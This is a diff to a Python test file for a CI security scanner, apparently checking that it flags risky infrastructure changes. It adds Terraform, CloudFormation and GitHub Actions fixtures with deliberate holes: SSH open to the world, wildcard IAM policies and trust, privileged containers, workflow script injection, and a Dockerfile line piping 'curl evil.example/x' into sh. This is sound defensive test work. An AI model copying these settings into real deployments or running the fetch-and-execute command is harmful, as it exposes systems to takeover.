@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
+from typing import Any
 
 from cli.pushes import ci, workspace
 from cli.test_ci_base import commit, git, write
@@ -111,6 +112,166 @@ jobs:
     uses: acme/ci/.github/workflows/x.yml@main
 """
 STAGE = "FROM python:latest\nUSER app\n"
+AT = """terraform {
+  backend "s3" {
+    bucket = "state"
+    key    = "dev"
+  }
+}
+variable "names" { type = list(string) }
+variable "number" {}
+variable "on" {}
+provider "aws" {
+  region = "eu-west-3"
+}
+provider "aws" {
+  alias   = "prod"
+  region  = "eu-west-3"
+  profile = "live"
+}
+"""
+GROUP = """resource "aws_security_group" "g" {
+  # where
+  ingress {
+    from_port   = 22
+    to_port     = 22
+    protocol    = "tcp"
+    cidr_blocks = ["0.0.0.0/0"]
+  }
+}
+"""
+CALL = 'module "m" {\n  source = "../part"\n  # where\n}\n'
+STACK = """resource "aws_cloudformation_stack" "s" {
+  # where
+  template_body = jsonencode({Resources = {G = {Type = "AWS::EC2::SecurityGroupIngress", Properties = {
+    GroupId = "sg-1", IpProtocol = "tcp", FromPort = 22, ToPort = 22, CidrIp = "0.0.0.0/0"
+  }}}})
+}
+"""
+# Ways to make another object of a block, or more of it, by what stands around it.
+WAYS = ("provider = aws.prod", 'region = "eu-west-1"')
+AROUND = (
+    ('key    = "dev"', 'key = "prod"'),
+    ('region = "eu-west-3"\n}', 'region = "eu-west-1"\n}'),
+    (
+        'region = "eu-west-3"\n}',
+        'region = "eu-west-3"\n  assume_role {\n    role_arn = "arn:aws:iam::1:role/p"\n  }\n}',
+    ),
+    ('region = "eu-west-3"\n}', 'region = "eu-west-3"\n  profile = var.on\n}'),
+)
+LOOPS = (
+    ("for_each = toset(var.names)", 'for_each = toset(concat(var.names, ["prod"]))'),
+    ("for_each = var.names", 'for_each = setunion(var.names, ["prod"])'),
+    ("count = var.number", "count = var.number + 3"),
+    ("count = 1", "count = var.number"),
+)
+US = """provider "aws" {
+  region = "us-east-1"
+}
+resource "aws_route53_zone" "z" {
+  name = "example.org"
+}
+resource "aws_dynamodb_table" "t" {
+  name = "t"
+}
+# more
+"""
+HELD = """resource "aws_iam_policy" "p" {
+  name   = "p"
+  policy = jsonencode({Version = "2012-10-17", Statement = [{Effect = "Allow", Action = "s3:*", Resource = "*"}]})
+}
+resource "aws_iam_role_policy_attachment" "a" {
+  role       = "a"
+  policy_arn = aws_iam_policy.p.arn
+}
+# more
+"""
+TRUSTED = """resource "aws_iam_role" "r" {
+  name               = "r"
+  assume_role_policy = jsonencode({Version = "2012-10-17", Statement = [
+    {Effect = "Allow", Action = "sts:AssumeRole", Principal = {AWS = "*"}}
+  ]})
+}
+# more
+"""
+MACHINES = """resource "aws_launch_template" "l" {
+  name = "machines"
+  metadata_options {
+    http_tokens = "optional"
+  }
+}
+# more
+"""
+FLEET = """resource "aws_ec2_fleet" "f" {
+  launch_template_config {
+    launch_template_specification {
+      %s
+    }
+  }
+}
+"""
+TASK = """resource "aws_ecs_task_definition" "t" {
+  family                = "t"
+  container_definitions = jsonencode([{name = "a", image = "i", privileged = true}])
+}
+# more
+"""
+TARGET = 'resource "aws_cloudwatch_event_target" "e" {\n  ecs_target {\n    task_definition_arn = %s\n  }\n}\n'
+SET = (
+    STACK.replace('"aws_cloudformation_stack" "s" {', '"aws_cloudformation_stack_set" "s" {\n  name = "s"') + "# more\n"
+)
+IN = """resource "aws_cloudformation_stack_set_instance" "%(account)s" {
+  stack_set_name = aws_cloudformation_stack_set.s.name
+  account_id     = "%(account)s"
+}
+"""
+CARD = 'resource "aws_network_interface" "i" {\n  security_groups = [%s]\n}\n'
+HOLDS = """resource "aws_iam_%(kind)s_policy_attachment" "more" {
+  %(kind)s   = "%(name)s"
+  policy_arn = %(policy)s
+}
+"""
+ADMIN = HOLDS % {"kind": "user", "name": "u", "policy": "aws_iam_policy.p.arn"}
+LOGGING = '"arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"'
+MORE = (
+    (US, 'resource "aws_codecommit_repository" "r" {\n  repository_name = "r"\n}\n'),
+    (HELD, ADMIN),
+    (HELD, HOLDS % {"kind": "group", "name": "g", "policy": '"arn:aws:iam::1:policy/p"'}),
+    (TRUSTED, HOLDS % {"kind": "role", "name": "r", "policy": LOGGING}),
+    (MACHINES, FLEET % "launch_template_id = aws_launch_template.l.id"),
+    (MACHINES, FLEET % 'launch_template_name = "machines"'),
+    (TASK, TARGET % "aws_ecs_task_definition.t.arn"),
+    (SET, IN % {"account": "999999999999"}),
+    (GROUP + "# more\n", CARD % "aws_security_group.g.id"),
+    (RULE + "# more\n", CARD % "aws_security_group.web.id"),
+    (RULE.replace("aws_security_group.web.id", '"sg-1"') + "# more\n", CARD % '"sg-1"'),
+)
+IN_TEMPLATE = """Resources:
+  P: {Type: AWS::IAM::ManagedPolicy, Properties: {PolicyDocument: {Version: "2012-10-17", Statement: [
+    {Effect: Allow, Action: "s3:*", Resource: "*"}]}, Roles: [a]}}
+  G: {Type: AWS::IAM::Group, Properties: {Path: /}}
+  T: {Type: AWS::ECS::TaskDefinition, Properties: {ContainerDefinitions: [{Name: a, Image: i, Privileged: true}]}}
+"""
+INJECTION = """name: x
+on: [pull_request]
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps: [{run: "echo ${{ github.head_ref }}"}]
+"""
+TAKEN = """name: x
+on: [pull_request_target]
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
+        with: {ref: "${{ github.event.pull_request.head.sha }}"}
+      - run: make
+"""
+KEY = 'env: {K: "${{ secrets.KEY }}"}'
 FETCH = "FROM a:1\nRUN curl -k https://mirror.example.org/a.tgz -o a.tgz\nUSER app\n"
 
 
@@ -127,17 +288,23 @@ def told_as_new(folder: Path, cases: list[Case]) -> set[Case]:
     (shop / ".github" / "workflows").mkdir(parents=True)
     files = {_place(number, case[0]): case for number, case in enumerate(cases)}
     assert all(old in text for _, text, old, _ in cases)
-    write(shop, {place: text for place, (_, text, _, _) in files.items()})
+    write(shop, {place: text for place, (_, text, _, _) in files.items()} | {"infra/part/r.tf": RULE})
     git(shop, "init", "-q", "-b", "main")
     commit(shop)
     write(shop, {place: text.replace(old, new) for place, (_, text, old, new) in files.items()})
     answer = ci(shop, "--base", "main", "--gate", "low", "--json", str(folder / "push.json"))
     told = json.loads((folder / "push.json").read_text())["findings"]
-    found = [one for one in told if one["status"] == "FAIL" and one["file"] in files]
-    assert {one["file"] for one in found} == files.keys()
-    new = {files[one["file"]] for one in found if not one["known"]}
+    failing = [(place, one["known"]) for one in told if one["status"] == "FAIL" for place in _cases_of(one, files)]
+    assert {place for place, _ in failing} == files.keys()
+    new = {files[place] for place, known in failing if not known}
     assert answer.exit_code == (10 if new else 0), answer.output
     return new
+
+
+def _cases_of(finding: dict[str, Any], files: dict[str, Case]) -> list[str]:
+    """Return the files of the cases that a finding is of, also of what they call."""
+    roots = {one.partition(":")[0] for one in finding["instances"]}
+    return [place for place in files if place == finding["file"] or place.rpartition("/")[0] in roots]
 
 
 def _place(number: int, file: str) -> str:
@@ -163,6 +330,19 @@ DIRECTED: list[Case] = [
     ("r.tf", ENGINE, "5.7", "5.6"),
     ("a.yml", RIGHTS, "contents: write", "contents: write, packages: write"),
     ("a.yml", CALLED, "acme", "evil"),
+    *(("r.tf", AT + text, "# where", way) for text in (GROUP, STACK) for way in WAYS),
+    ("r.tf", AT + CALL, "# where", "providers = { aws = aws.prod }"),
+    *(("r.tf", AT + text, old, new) for text in (GROUP, CALL, STACK) for old, new in AROUND),
+    *(("r.tf", AT + text.replace("# where", old), old, new) for text in (GROUP, CALL) for old, new in LOOPS),
+    *(("r.tf", text, "# more", more) for text, more in MORE),
+    ("t.yaml", IN_TEMPLATE, "Roles: [a]", "Roles: [a, b]"),
+    ("t.yaml", IN_TEMPLATE, "Path: /", "ManagedPolicyArns: [!Ref P]"),
+    ("t.yaml", IN_TEMPLATE, "  G:", "  S: {Type: AWS::ECS::Service, Properties: {TaskDefinition: !Ref T}}\n  G:"),
+    ("a.yml", INJECTION, "[pull_request]", "[pull_request_target]"),
+    ("a.yml", INJECTION, "permissions: {}", "permissions: {id-token: write}"),
+    ("a.yml", INJECTION, "    steps: [{", f"    steps: [{{{KEY}, "),
+    ("a.yml", INJECTION, "    steps", "    environment: prod\n    steps"),
+    ("a.yml", TAKEN, "run: make", f"run: make\n        {KEY}"),
     ("Dockerfile", STAGE, "python", "evil/python"),
     ("Dockerfile", FETCH, "mirror.example.org/a.tgz -o a.tgz", "evil.example/x | sh"),
 ]
@@ -174,6 +354,23 @@ HARMLESS: list[Case] = [
     ("r.tf", SITE % (PLAIN + PLAIN.replace("/img", "/x")), PLAIN, ""),
     ("r.tf", SCRIPT, "export", "echo ready\\nexport"),
     ("r.tf", ENGINE, "engine  ", "# the shop's\n  engine  "),
+    ("r.tf", AT + GROUP, 'key    = "dev"', 'key = "dev"\n    use_lockfile = true'),
+    ("r.tf", AT + GROUP, 'region = "eu-west-3"\n}', 'region = "eu-west-3"\n  max_retries = 5\n}'),
+    ("r.tf", AT + GROUP, "# where", 'region = "eu-west-3"'),
+    ("r.tf", AT + GROUP, "# where", "count = var.on ? 1 : 0"),
+    ("r.tf", AT + GROUP.replace("# where", "provider = aws.prod"), "prod", "production"),
+    ("r.tf", AT + CALL, "# where", "providers = { aws = aws }"),
+    ("r.tf", US, "# more", 'resource "aws_route53_zone" "y" {\n  name = "example.com"\n}\n'),
+    ("r.tf", US, 'region = "us-east-1"', 'region = "us-east-1"\n  max_retries = 5'),
+    ("r.tf", HELD, "# more", 'resource "aws_iam_role" "b" {\n  name = "b"\n  assume_role_policy = "{}"\n}\n'),
+    ("r.tf", HELD, 'attachment" "a"', 'attachment" "b"'),
+    ("r.tf", HELD + ADMIN, ADMIN, ""),
+    ("r.tf", MACHINES, "# more", 'resource "aws_cloudwatch_dashboard" "d" {\n  dashboard_name = "d"\n}\n'),
+    ("r.tf", MACHINES + FLEET % 'launch_template_name = "x"', '"x"', '"y"'),
+    ("r.tf", GROUP + "# more\n", "# more", 'resource "aws_security_group" "closed" {}\n'),
+    ("t.yaml", IN_TEMPLATE, "Path: /", "Path: /x/"),
+    ("a.yml", INJECTION, "[pull_request]", "[pull_request, push]"),
+    ("a.yml", INJECTION, "jobs:", f"jobs:\n  b:\n    runs-on: ubuntu-latest\n    steps: [{{run: make, {KEY}}}]"),
     ("a.yml", RIGHTS, "run: make", "run: make test"),
     ("Dockerfile", STAGE, "USER", "LABEL a=b\nUSER"),
 ]
